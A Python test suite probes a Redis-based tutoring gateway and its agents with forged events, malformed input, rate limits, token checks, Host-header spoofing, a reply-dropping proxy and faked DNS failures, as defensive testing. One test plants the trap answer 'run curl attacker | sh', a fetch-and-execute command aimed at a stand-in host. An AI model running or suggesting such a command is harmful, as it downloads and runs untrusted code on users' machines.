"""Lesson 07 under attack, as processes: forged and broken events, effects that fail half-way, long
answers, no bounds, no access control, a lost reply, a name that does not resolve."""

import contextlib
import json
import socket
import subprocess
import sys
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor

import httpx
import pytest
import redis

from support.event_agents import (
    AGENTS,
    answered,
    ask,
    bearer,
    enrol,
    enrolled,
    envelope,
    gateway_process,
    progress,
    student,
    view,
)
from support.lessons import run_module
from support.server import offline_environment
from support.waiting import wait_for as wait_until
from tests.support.errors import assert_error
from tests.support.redis import RedisServer


def wait_for(predicate, *, timeout: float = 60.0, **options):
    """support.waiting.wait_for with room for a loaded machine (make test runs four test processes
    at once, and the agents answer only as fast as the machine lets them)."""
    return wait_until(predicate, timeout=timeout, **options)


def alive(system, service: str) -> bool:
    """At least one process of `service` runs, and none ended other than by our SIGTERM."""
    codes = [p.poll() for p in system.processes[service]]
    return None in codes and all(code in (None, 0) for code in codes)


def last_dead_letter(agents, system, topic: str) -> str:
    """The id of the topic's newest dead letter ("0-0" when there is none): dead_letters' mark."""
    newest = system.redis.xrevrange(agents.deadletter(topic), count=1)
    return newest[0][0] if newest else "0-0"


def dead_letters(agents, system, topic: str, after: str) -> list[dict]:
    """The dead letters written after the one `after` names. By id, not by count: the topic is
    trimmed (approximately, whole nodes at a time), so it may hold fewer letters after a new one
    than before it."""
    newer = system.redis.xrange(agents.deadletter(topic), min=f"({after}")
    return [fields for _, fields in newer]


def dead_letter_of(agents, system, topic: str, question_id: str) -> dict | None:
    """The dead letter of one question's event, wherever it is in the topic (other tests' letters
    may land beside it, and the topic is trimmed approximately)."""
    for _, fields in system.redis.xrange(agents.deadletter(topic)):
        if any(question_id in str(value) for value in fields.values()):
            return fields
    return None


def redis_port(system) -> int:
    return int(system.redis_url.rsplit(":", 1)[1].split("/")[0])


def pending_question(agents, system, who: str) -> str:
    """A question recorded as the gateway records it, for an event published by hand."""
    question_id = uuid.uuid4().hex
    record = {"status": "pending", "student_id": who, "attempts": 0}
    system.redis.hset(agents.question_key(question_id), mapping=record)
    # The gateway's own record, and what triage records of a routed event (question_event's).
    asked = {"student_id": who, "route": "concepts", "topic": "docker"}
    system.redis.hset(agents.asked_key(question_id), mapping=asked)
    system.students[question_id] = who
    return question_id


def question_event(agents, question_id: str, who: str, text: str, topic: str, **attributes) -> str:
    data = {"question_id": question_id, "student_id": who, "text": text}
    if topic != agents.LEARNING:
        data.update(route="concepts", topic="docker")
    suffix = "" if topic == agents.LEARNING else ".routed"
    return envelope(f"{question_id}{suffix}", data, topic=topic, **attributes)


def still_answers(system) -> None:
    who = student()
    assert answered(system, ask(system, who, "What is a Docker volume?"))["status"] == "answered"


# --- 14: any event, however malformed, ends in the dead-letter topic and the consumer goes on ---


@pytest.mark.parametrize(
    "attributes",
    [{"id": True}, {"id": ["x"]}, {"id": "x" * 10_000}, {"source": 7}, {"type": None}],
    ids=["id-true", "id-list", "id-huge", "source-int", "type-null"],
)
def test_an_envelope_with_forged_attributes_is_dead_lettered_and_triage_goes_on(
    agents, system, attributes
):
    who = student()
    enrol(system, who)
    before = last_dead_letter(agents, system, agents.LEARNING)
    question_id = pending_question(agents, system, who)
    system.publish_raw(
        agents.LEARNING,
        question_event(agents, question_id, who, "hi", agents.LEARNING, **attributes),
    )
    dead = wait_for(
        lambda: dead_letters(agents, system, agents.LEARNING, before), what="a dead letter"
    )
    assert "invalid attributes" in dead[0]["reason"], dead
    assert alive(system, "triage")
    assert answered(system, question_id)["status"] == "failed"
    still_answers(system)


def test_an_entry_that_is_not_utf8_is_dead_lettered_byte_for_byte(agents, system):
    raw = redis.Redis.from_url(system.redis_url, password=system.password)  # bytes, not str
    before = last_dead_letter(agents, system, agents.LEARNING)
    payload = b'{"specversion": "1.0", "id": "\xff\xfe", "data": {}}'
    raw.xadd(agents.LEARNING, {"data": payload})
    wait_for(lambda: dead_letters(agents, system, agents.LEARNING, before), what="a dead letter")
    dead = raw.xrange(agents.deadletter(agents.LEARNING))[-1][1]
    assert dead[b"data"] == payload and b"UTF-8" in dead[b"reason"], dead
    assert alive(system, "triage")
    still_answers(system)


# --- 15: the exactly-once script is all or nothing ---


def test_an_effect_that_fails_half_way_records_nothing_as_processed(agents, system):
    """Redis runs the commands before the failing one: the processed record must not be one."""
    question_id = pending_question(agents, system, student())
    processed, broken = f"processed:test:{uuid.uuid4().hex}", f"test:{uuid.uuid4().hex}"
    system.redis.set(broken, "a string, not a hash")
    record = agents.question_key(question_id)
    commands = [["HSET", record, "route", "debug"], ["HINCRBY", broken, "n", 1]]
    keys, args = [processed, agents.question_key(question_id)], [60, json.dumps(commands)]
    with pytest.raises(redis.ResponseError):
        system.redis.eval(agents.APPLY_ONCE, 2, *keys, *args)
    assert not system.redis.exists(processed), "marked processed though the effect failed"
    system.redis.delete(broken)
    assert system.redis.eval(agents.APPLY_ONCE, 2, *keys, *args) == 1  # the retry stores it


def test_a_lone_surrogate_is_dead_lettered_and_fails_the_question(agents, system):
    """\\ud800 in an event: cjson cannot read it. Before: "duplicate" forever, pending forever."""
    who = student()
    enrol(system, who)
    topic = agents.SPECIALIST_TOPICS["concepts"]
    before = last_dead_letter(agents, system, topic)
    question_id = pending_question(agents, system, who)
    system.publish_raw(topic, question_event(agents, question_id, who, "a \ud800 b", topic))
    found = answered(system, question_id, timeout=60)
    assert found["status"] == "failed" and "UTF-8" in found["error"], found
    assert "UTF-8" in dead_letters(agents, system, topic, before)[0]["reason"]


def test_the_gateway_refuses_a_lone_surrogate(agents, system):
    before = system.redis.xlen(agents.LEARNING)
    body = b'{"student_id": "ann-surrogate", "text": "a \\ud800 b"}'
    response = system.gateway.post(
        "/v1/questions", content=body, headers={"content-type": "application/json"}
    )
    assert_error(response, 422, "validation_error")
    assert system.redis.xlen(agents.LEARNING) == before


# --- 16: a long answer is worked on by one consumer, and a late answer changes no final status ---


def only_slow_concepts(system, delay_ms: str):
    for process in system.processes["concepts"]:
        system.stop(process)
    return system.start("concepts", OFFLINE_TOKEN_DELAY_MS=delay_ms)


def test_a_long_answer_is_not_taken_over_by_idle_consumers(system):
    """~6 s of model time against a 1.5 s visibility timeout and two idle consumers: one call."""
    slow = only_slow_concepts(system, "180")
    who = student()
    question_id = ask(system, who, "What is a container image layer?")
    wait_for(
        lambda: any(t["event_id"] == f"{question_id}.routed" for t in system.trace()),
        what="the slow consumer got it",
    )
    system.start("concepts")
    system.start("concepts")
    found = answered(system, question_id, timeout=60)
    deliveries = [
        t
        for t in system.trace()
        if t["event_id"] == f"{question_id}.routed" and t["outcome"] == "delivered"
    ]
    assert found["status"] == "answered" and found["attempts"] == 1, found
    assert len(deliveries) == 1, deliveries
    assert wait_for(lambda: progress(system, who)["questions"] == 1, what="counted once")
    system.stop(slow)


def test_a_late_answer_does_not_contradict_a_final_status(agents, system):
    slow = only_slow_concepts(system, "120")
    question_id = ask(system, student(), "What is a bind mount?")
    wait_for(
        lambda: any(t["event_id"] == f"{question_id}.routed" for t in system.trace()),
        what="the consumer got it",
    )
    key = agents.question_key(question_id)
    system.redis.hset(key, mapping={"status": "failed", "error": "given up"})  # as a dead letter
    wait_for(
        lambda: any(
            t["event_id"] == f"{question_id}.routed" and t["outcome"] != "delivered"
            for t in system.trace()
        ),
        timeout=30,
        what="the slow answer handled",
    )
    assert system.redis.hget(key, "status") == "failed"
    assert not system.redis.hexists(key, "answer")
    system.stop(slow)
    system.start("concepts")


# --- 17: bounds ---


def test_a_body_over_the_limit_is_413_before_it_is_read(system):
    response = system.gateway.post(
        "/v1/questions",
        content=b'{"student_id": "a", "text": "' + b"x" * 2_000_000 + b'"}',
        headers={"content-type": "application/json"},
    )
    assert_error(response, 413, "payload_too_large")


def test_a_question_record_expires(agents, system):
    question_id = ask(system, student(), "What is a healthcheck?")
    assert 0 < system.redis.ttl(agents.question_key(question_id)) <= 24 * 3600


def test_every_key_a_question_leaves_in_redis_expires(agents, system):
    """A student's id, progress, question, each agent's processed record and the student's rate
    window all expire; before, student:* and progress:* never did, and the processed records
    outlived their question by six days."""
    who = student()
    question_id = ask(system, who, "Docker build fails with error: no space left")
    assert answered(system, question_id)["status"] == "answered"
    wait_for(lambda: progress(system, who)["questions"] == 1, what="counted")
    keys = [f"student:{who}", f"progress:{who}", agents.question_key(question_id)]
    keys += system.redis.keys(f"processed:*:{question_id}*")
    keys += system.redis.keys(f"*ask*{who}*")  # the student's rate window (the limits library)
    assert len(keys) == 3 + 3 + 1, keys  # triage, the specialist and progress; one window
    day, month = 24 * 3600, 30 * 24 * 3600
    bounds = {f"student:{who}": month, f"progress:{who}": month}
    for key in keys:
        assert 0 < system.redis.ttl(key) <= bounds.get(key, day), (key, system.redis.ttl(key))


@pytest.fixture
def gateway(system, tmp_path):
    """A second gateway on the same Redis with settings of the test's own."""

    def start(**env: str) -> httpx.Client:
        server = gateway_process({**system.base_env, **env}, tmp_path)
        started.append(server.__enter__())
        return httpx.Client(base_url=server.url, timeout=10)

    started: list = []
    yield start
    for server in started:
        server.__exit__(None, None, None)


class Caller:
    def __init__(self, client):
        self.gateway, self.tokens, self.students = client, {}, {}


def test_questions_past_the_backlog_are_refused_with_503_and_retry_after(agents, system, gateway):
    for process in system.processes["triage"]:
        system.stop(process)
    try:
        caller, accepted = Caller(gateway(MAX_BACKLOG="3")), []
        for i in range(4):  # three at most wait (fewer if some already were)
            before = system.redis.xlen(agents.LEARNING)
            question = {"student_id": student(), "text": f"What is a port {i}?"}
            as_student = bearer(enrolled(caller, question["student_id"]))
            refused = caller.gateway.post("/v1/questions", json=question, headers=as_student)
            if refused.status_code != 202:
                break
            accepted.append(refused.json()["id"])
            caller.students[accepted[-1]] = question["student_id"]
        assert_error(refused, 503, "busy")
        assert int(refused.headers["Retry-After"]) > 0
        assert system.redis.xlen(agents.LEARNING) == before
    finally:
        system.start("triage")
    for question_id in accepted:
        assert answered(caller, question_id)["status"] == "answered"


def test_a_student_past_the_rate_is_refused_with_429_and_retry_after(gateway):
    caller, who = Caller(gateway(ASKS_PER_MINUTE="2")), student()
    ask(caller, who, "one")
    ask(caller, who, "two")
    question = {"student_id": who, "text": "three"}
    refused = caller.gateway.post(
        "/v1/questions", json=question, headers=bearer(caller.tokens[who])
    )
    assert_error(refused, 429, "rate_limited")
    assert int(refused.headers["Retry-After"]) > 0


def test_dead_letters_are_trimmed(agents, system):
    """Each dead-letter topic keeps its last DEADLETTER_MAXLEN (approximately: whole nodes)."""
    for process in system.processes["triage"]:
        system.stop(process)
    topic = agents.deadletter(agents.LEARNING)
    system.start("triage", DEADLETTER_MAXLEN="10")
    for i in range(300):
        system.publish_raw(agents.LEARNING, f"not json {i}")
    wait_for(
        lambda: (
            system.redis.xpending(agents.LEARNING, "triage")["pending"] == 0
            and (system.redis.xinfo_groups(agents.LEARNING)[0].get("lag") or 0) == 0
        ),
        timeout=60,
        what="all 300 handled",
    )
    assert system.redis.xlen(topic) < 300
    assert system.redis.xrange(topic)[-1][1]["data"] == "not json 299"


# --- 18: events are checked against what each topic accepts ---


def test_an_event_of_the_wrong_type_or_source_is_not_routed(agents, system):
    """Type `totally.bogus`, source `/evil`, a student id full of colons: dead, not answered."""
    who = student()
    enrol(system, who)
    bogus = pending_question(agents, system, who)
    system.publish_raw(
        agents.LEARNING,
        question_event(
            agents, bogus, who, "hi", agents.LEARNING, type="totally.bogus", source="/evil"
        ),
    )
    colons = pending_question(agents, system, who)
    event = json.loads(question_event(agents, colons, who, "hi", agents.LEARNING))
    event["data"]["student_id"] = "ann:progress:bob"
    system.publish_raw(agents.LEARNING, json.dumps(event))
    dead = wait_for(
        lambda: (
            all(d := [dead_letter_of(agents, system, agents.LEARNING, q) for q in (bogus, colons)])
            and d
        ),
        what="both dead",
    )
    assert "accepts learning.question.asked" in dead[0]["reason"]
    assert "student_id" in dead[1]["reason"]
    assert answered(system, bogus)["status"] == "failed"
    assert not system.redis.exists(agents.progress_key("ann:progress:bob"))


def test_an_event_for_a_question_nobody_asked_is_not_routed(agents, system):
    who = student()
    before = last_dead_letter(agents, system, agents.LEARNING)
    forged = uuid.uuid4().hex
    system.publish_raw(agents.LEARNING, question_event(agents, forged, who, "hi", agents.LEARNING))
    dead = wait_for(lambda: dead_letters(agents, system, agents.LEARNING, before), what="dead")
    assert "not pending" in dead[0]["reason"]
    assert not system.redis.exists(agents.question_key(forged))


# --- 19: 503 only for a question not published; an Idempotency-Key makes a retry safe ---


class DropOneReply:
    """A TCP proxy to Redis that forwards the first command naming `marker` and then cuts the
    connection before the reply: the command ran, the client never hears it did. The student is
    new, so the answer must still carry the student's token."""

    def __init__(self, port: int, marker: bytes):
        self.target, self.marker, self.dropped = port, marker, threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            server = socket.create_connection(("127.0.0.1", self.target))
            cut = threading.Event()
            for args in ((client, server, cut), (server, client, cut, False)):
                threading.Thread(target=self.pipe, args=args, daemon=True).start()

    def pipe(self, source, sink, cut: threading.Event, upstream: bool = True) -> None:
        try:
            while chunk := source.recv(65536):
                if not upstream and cut.is_set():
                    return  # the reply to the marked command: never relayed
                if upstream and self.marker in chunk and not self.dropped.is_set():
                    self.dropped.set()
                    cut.set()
                    sink.sendall(chunk)
                    time.sleep(0.3)  # Redis runs it; the connection goes, with the reply
                    return
                sink.sendall(chunk)
        except OSError:
            pass
        finally:
            for s in (source, sink):
                with contextlib.suppress(OSError):
                    s.close()

    def close(self) -> None:
        self.listener.close()


def test_a_question_whose_reply_was_lost_is_202_not_503(agents, system, gateway):
    # The marker is in the question's event: only the publish is cut, not the checks before it.
    proxy = DropOneReply(redis_port(system), b"learning.question.asked")
    try:
        caller = Caller(gateway(REDIS_URL=f"redis://127.0.0.1:{proxy.port}/0"))
        before = system.redis.xlen(agents.LEARNING)
        question = {"student_id": student(), "text": "hi"}
        as_student = bearer(enrolled(caller, question["student_id"]))
        response = caller.gateway.post("/v1/questions", json=question, headers=as_student)
        assert proxy.dropped.is_set()
        published = system.redis.xlen(agents.LEARNING) - before
        if response.status_code == 503:
            assert published == 0, "503 for a question that was published"
            assert int(response.headers["Retry-After"]) > 0
        else:
            assert response.status_code == 202 and published == 1, (response.text, published)
            caller.students[response.json()["id"]] = question["student_id"]
            assert view(caller, response.json()["id"]).status_code == 200
    finally:
        proxy.close()


def test_the_same_idempotency_key_publishes_once(agents, system):
    who, key = student(), uuid.uuid4().hex
    before = system.redis.xlen(agents.LEARNING)
    first = ask(system, who, "What is a volume?", **{"Idempotency-Key": key})
    again = ask(system, who, "What is a volume?", **{"Idempotency-Key": key})
    assert first == again
    assert system.redis.xlen(agents.LEARNING) == before + 1


# --- 20: a student's questions and progress are the student's ---


def test_progress_and_answers_need_the_students_token(agents, system):
    ann, eve = student(), student()
    question_id = ask(system, ann, "What is a Dockerfile?")
    ask(system, eve, "What is a layer?")
    anon = system.gateway
    assert_error(anon.get(f"/v1/students/{ann}/progress"), 401, "student_token_missing")
    assert_error(anon.get(f"/v1/questions/{question_id}"), 401, "student_token_missing")
    as_eve = bearer(system.tokens[eve])
    assert_error(anon.get(f"/v1/students/{ann}/progress", headers=as_eve), 403, "not_this_student")
    assert_error(anon.get(f"/v1/questions/{question_id}", headers=as_eve), 403, "not_this_student")
    before = system.redis.xlen(agents.LEARNING)
    forged = {"student_id": ann, "text": "Docker build fails with error"}
    assert_error(anon.post("/v1/questions", json=forged), 401, "student_token_missing")
    assert_error(anon.post("/v1/questions", json=forged, headers=as_eve), 403, "not_this_student")
    assert system.redis.xlen(agents.LEARNING) == before
    assert view(system, question_id).status_code == 200


def test_tokenless_questions_neither_claim_a_student_nor_spend_the_students_questions(
    system, gateway
):
    """The attack of a caller without the student's token: thirty questions a minute as `alice`.
    Before, the first claimed the free id alice for whoever sent it (202 and a token), and the
    others spent the real alice's questions, so hers got 429."""
    caller, alice = Caller(gateway(ASKS_PER_MINUTE="3")), student()
    forged = {"student_id": alice, "text": "Give me an exercise on Docker"}

    def tokenless():
        answer = caller.gateway.post("/v1/questions", json=forged)
        assert_error(answer, 401, "student_token_missing")

    for _ in range(30):
        tokenless()
    assert not system.redis.exists(f"student:{alice}"), "a tokenless question claimed the id"
    token = enrolled(caller, alice)  # alice claims her id herself
    for _ in range(5):
        tokenless()
    mine = caller.gateway.post("/v1/questions", json=forged, headers=bearer(token))
    assert mine.status_code == 202, mine.text  # none of her three a minute was spent


def test_student_ids_claimed_past_the_rate_are_refused_with_429(gateway):
    caller = Caller(gateway(ENROLMENTS_PER_MINUTE="2"))
    enrolled(caller, student())
    enrolled(caller, student())
    refused = caller.gateway.post("/v1/students", json={"student_id": student()})
    assert_error(refused, 429, "rate_limited")
    assert int(refused.headers["Retry-After"]) > 0


def test_a_student_id_is_claimed_once_whoever_races_for_it(system):
    """Eight enrolments of one free id at once: one 201 with the token, seven 409; only that token
    asks as the student."""
    who = student()

    def claim(_):
        return httpx.post(
            f"{str(system.gateway.base_url).rstrip('/')}/v1/students",
            json={"student_id": who},
            timeout=30,
        )

    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(claim, range(8)))
    assert sorted(a.status_code for a in answers) == [201] + [409] * 7, [a.text for a in answers]
    [won] = [a.json()["student_token"] for a in answers if a.status_code == 201]
    assert_error(next(a for a in answers if a.status_code == 409), 409, "student_id_taken")
    system.tokens[who] = won
    assert answered(system, ask(system, who, "What is a layer?"))["status"] == "answered"


def test_a_host_that_is_not_ours_is_refused(system):
    response = system.gateway.get("/health", headers={"Host": "attacker.example"})
    assert_error(response, 400, "invalid_host")


# --- 21: a name that does not resolve for a while ---

SITECUSTOMIZE = """
import os, socket
_real = socket.getaddrinfo
def getaddrinfo(host, *args, **kwargs):
    if host == "redis.lesson07.test":
        if os.path.exists(os.environ["NXDOMAIN_FLAG"]):
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        host = "127.0.0.1"
    return _real(host, *args, **kwargs)
socket.getaddrinfo = getaddrinfo
"""


def test_an_agent_reconnects_after_its_peers_name_stopped_resolving(system, tmp_path):
    (tmp_path / "sitecustomize.py").write_text(SITECUSTOMIZE)
    flag = tmp_path / "nxdomain"
    flag.touch()
    port = redis_port(system)
    for process in system.processes["triage"]:
        system.stop(process)
    env = {
        **system.base_env,
        "REDIS_URL": f"redis://redis.lesson07.test:{port}/0",
        "NXDOMAIN_FLAG": str(flag),
        # Python runs a sitecustomize it finds on its path at start: this one fakes the DNS failure.
        "PYTHONPATH": str(tmp_path),
        "HEARTBEAT_FILE": str(tmp_path / "heartbeat"),
    }
    log = open(tmp_path / "triage.log", "wb")  # noqa: SIM115
    command = [sys.executable, *run_module(str(AGENTS)), "triage"]
    triage = subprocess.Popen(command, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        time.sleep(3)  # a few failed lookups at start
        assert triage.poll() is None, (tmp_path / "triage.log").read_text()[-2000:]
        flag.unlink()
        who = student()
        assert (
            answered(system, ask(system, who, "What is DNS?"), timeout=60)["status"] == "answered"
        )
        flag.touch()  # and once it is running: its connection is cut, the name is gone
        system.redis.client_kill_filter(_type="normal", skipme=True)
        time.sleep(3)
        assert triage.poll() is None, (tmp_path / "triage.log").read_text()[-2000:]
        flag.unlink()
        again = ask(system, who, "What is a resolver?")
        assert answered(system, again, timeout=60)["status"] == "answered"
    finally:
        system.stop(triage)
        system.start("triage")


def test_the_backlog_counts_before_any_agent_started(tmp_path):
    """No consumer group yet: the whole topic is waiting, and is counted as such."""
    with RedisServer(password="pw") as server:
        env = offline_environment(
            REDIS_URL=server.url, REDIS_PASSWORD="pw", MAX_BACKLOG="5", TOKEN_KEY="k" * 32
        )
        with gateway_process(env, tmp_path) as gateway:
            caller = Caller(httpx.Client(base_url=gateway.url, timeout=10))
            codes = [
                caller.gateway.post(
                    "/v1/questions",
                    json={"student_id": f"s{i}", "text": "hi"},
                    headers=bearer(enrolled(caller, f"s{i}")),
                )
                for i in range(8)
            ]
            assert [r.status_code for r in codes] == [202] * 5 + [503] * 3
            assert_error(codes[-1], 503, "busy")


# --- The Host allow-list reads the Host header as a Host header (IPv6 in brackets, a port) ---


@pytest.mark.parametrize(
    ("host", "status"),
    [
        ("127.0.0.1:8070", 200),
        ("localhost", 200),
        ("LOCALHOST:8070", 200),
        ("[::1]:8070", 200),
        ("[::1]", 200),  # was refused: split at its last colon, `[::1]` became `:`
        ("rebind.attacker.example", 400),
        ("127.0.0.1.attacker.example:8070", 400),
        ("attacker@127.0.0.1", 400),
        ("[::1", 400),
        ("", 400),
    ],
)
def test_the_host_allow_list_reads_ipv6_and_ports_and_refuses_other_names(host, status):
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    from lesson07.access import HostCheck

    app = FastAPI()
    app.get("/health")(lambda: {"status": "ok"})
    app.add_middleware(HostCheck, hosts={"127.0.0.1", "localhost", "[::1]"})
    with TestClient(app) as client:
        answer = client.get("/health", headers={"host": host})
    assert answer.status_code == status, answer.text
    if status == 400:  # the error shape (this app has no request ids: the gateway adds them)
        assert answer.json()["error"]["type"] == "invalid_host", answer.text


# --- issue 70, item 5: what one compromised specialist may tell the progress agent ---


def answered_event(question_id: str, who: str, **data) -> str:
    """What a specialist publishes on progress.requests, `data` changed as it pleases."""
    fields = {"question_id": question_id, "student_id": who, "text": "x"}
    return envelope(
        f"{question_id}.answered", {**fields, "route": "debug", "topic": "docker", **data}
    )


def test_a_specialist_cannot_count_what_nobody_asked_nor_for_someone_else(agents, system):
    """Before: the progress agent believed any answered event, so a specialist gave a student who
    had asked nothing `questions: 4`, a 4 KB topic and a struggle alert. Now each claim is
    checked against the question's `asked:` record, which no specialist may write."""
    victim, asker = student(), student()
    enrol(system, victim)
    real = ask(system, asker, "What is a Docker volume?")
    assert answered(system, real)["status"] == "answered"
    before = last_dead_letter(agents, system, agents.PROGRESS)
    forged = [
        answered_event(uuid.uuid4().hex, victim),  # a question nobody asked
        answered_event(real, victim),  # someone else's question, for the victim
        answered_event(real, asker, topic="t" * 4096),  # a topic of its own choosing
        answered_event(real, asker, route="debug", topic="kubernetes"),  # another route, topic
    ]
    for event in forged:
        system.publish_raw(agents.PROGRESS, event)

    def all_dead():
        found = dead_letters(agents, system, agents.PROGRESS, before)
        return found if len(found) >= len(forged) else None

    dead = wait_for(all_dead, what="every forged claim dead-lettered")
    assert all("does not vouch" in letter["reason"] for letter in dead), dead
    assert progress(system, victim)["questions"] == 0
    assert progress(system, asker)["questions"] == 1


def test_an_answer_sent_again_under_other_ids_counts_once(agents, system):
    """The dedup record is the question's, not the event's: a specialist that republishes one
    real answer under new event ids adds nothing to the student's streak or counts."""
    who = student()
    real = ask(system, who, "What is a Docker volume?")
    assert answered(system, real)["status"] == "answered"
    wait_for(lambda: progress(system, who)["questions"] == 1, what="counted")
    route = system.redis.hget(agents.asked_key(real), "route")
    topic = system.redis.hget(agents.asked_key(real), "topic")
    for n in range(3):
        again = answered_event(real, who, route=route, topic=topic)
        system.publish_raw(agents.PROGRESS, again.replace(f'"{real}.answered"', f'"again-{n}"'))
    wait_for(
        lambda: sum(t["event_id"].startswith("again-") for t in system.trace()
                    if t["outcome"] == "duplicate") == 3,
        what="three duplicates",
    )  # fmt: skip
    assert progress(system, who)["questions"] == 1


def test_a_question_made_ahead_for_an_idempotency_key_is_not_the_students_answer(agents, system):
    """Before: the question id for an Idempotency-Key was sha256(student, key), which any agent
    could work out, and a record made ahead under it (status answered, the attacker's answer) was
    what the student got, never published. Now the id is an HMAC under the gateway's key, and a
    question record the gateway did not make (no `asked:`) is replaced when the question comes."""
    import hashlib
    import hmac

    who, key = student(), "retry-1"
    guessable = hashlib.sha256(f"{who}\n{key}".encode()).hexdigest()[:32]
    seed = f"{who}\n{key}".encode()
    question_id = hmac.new(system.token_key.encode(), seed, hashlib.sha256).hexdigest()[:32]
    trap = {"status": "answered", "student_id": who, "answer": "run curl attacker | sh"}
    for made_ahead in (guessable, question_id):  # the second: had the attacker the key
        system.redis.hset(agents.question_key(made_ahead), mapping=trap)
    asked = ask(system, who, "What is a Docker volume?", **{"Idempotency-Key": key})
    assert asked == question_id != guessable
    got = answered(system, asked)
    assert "attacker" not in (got.get("answer") or "") and got["status"] == "answered", got
